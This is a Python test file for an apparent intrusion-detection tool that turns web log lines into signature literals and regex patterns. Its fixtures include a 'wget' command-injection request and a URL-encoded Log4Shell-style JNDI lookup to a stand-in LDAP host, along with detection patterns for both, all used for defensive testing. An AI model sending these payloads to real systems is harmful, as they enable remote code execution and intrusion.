from codered.authoring.log_parts import choose_literal, draft_logs, find_pattern_hits, write_request
from codered.authoring.orders import LogLine
from codered.authoring.request_patterns import generalise

AGENT = "ZorkScanner/1.0"


def line(request: str, agent: str = "-") -> LogLine:
    raw = f'192.0.2.9 - - [01/Jan/2026:00:00:00 +0000] "{request} HTTP/1.1" 404 1 "-" "{agent}"'
    return LogLine(request, agent, raw.encode())


def test_requests_become_signs_with_a_literal_and_a_pattern() -> None:
    lines = tuple(line(f"POST /zork/gate.cgi?id={number}&c=wget+x", AGENT) for number in (12, 345))
    (request, agent), notes = draft_logs(lines, ("GET /zork/other",))
    assert request.sign["literals"] == ["/zork/gate.cgi?id="]
    assert request.sign["pattern"] == r"(^| )/zork/gate\.cgi\?id=[0-9]{1,6}&c=wget\+x"
    assert (request.sign["vector"], request.sign["confidence"]) == ("exploit", "likely")
    assert find_pattern_hits(request.sign["pattern"], [item.request for item in lines])
    assert not any(find_pattern_hits(request.sign["pattern"], [near]) for near in request.near_requests)
    assert (agent.sign["part"], agent.sign["literals"]) == ("agent", [AGENT])
    assert notes


def test_a_request_of_a_clean_log_gives_no_sign() -> None:
    parts, notes = draft_logs((line("GET /news/today.html"),), ("GET /news/today.html",))
    assert parts == ()
    assert notes[-1].why == "a clean log has such a request"


def test_agents_that_are_left_out_are_counted() -> None:
    lines = tuple(line(f"GET /zork/gate.cgi?c=wget+{n}", f"ZorkScanner/{n}.0") for n in range(5))
    parts, notes = draft_logs(lines, ())
    assert [part.sign["id"] for part in parts if part.sign["part"] == "agent"] == ["agent-1", "agent-2"]
    assert notes[-1].what == "3 names of clients left out"
    assert not any("names of clients" in note.what for note in draft_logs(lines[:2], ())[1])


def test_nothing_personal_becomes_a_sign_or_a_reason() -> None:
    parts, notes = draft_logs((line("GET /zork?mail=jo.doe@example.org", "Zork jo.doe@example.org"),), ())
    assert parts == ()
    assert notes[-1].why == "personal: an e-mail address"
    assert not any("jo.doe" in note.what for note in notes)


def test_a_literal_stands_in_every_line_as_it_is() -> None:
    pattern = generalise(["/a-long-name?b=one"])
    assert choose_literal(pattern, [b"x /a-long-name?b=one y"]) == "/a-long-name?b=one"
    assert choose_literal(pattern, [b"/A-LONG-NAME b=one", b"/a-long-name b=one"]) == "/a-long-name"
    assert choose_literal(pattern, [b"%2f%61"]) == ""


def test_encoded_requests_give_a_pattern_over_what_they_mean() -> None:
    lines = tuple(line(f"GET /x/%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.{number}%2Fa%7D") for number in (7, 8))
    (part,), _ = draft_logs(lines, ())
    assert part.sign["literals"] == ["jndi"]
    assert r"\$\{jndi:ldap://" in part.sign["pattern"]
    assert find_pattern_hits(part.sign["pattern"], [*(item.request for item in lines), part.requests[0][0]])
    assert write_request("/a%u9090 %41<") == "/a%u9090%20%2541%3C"
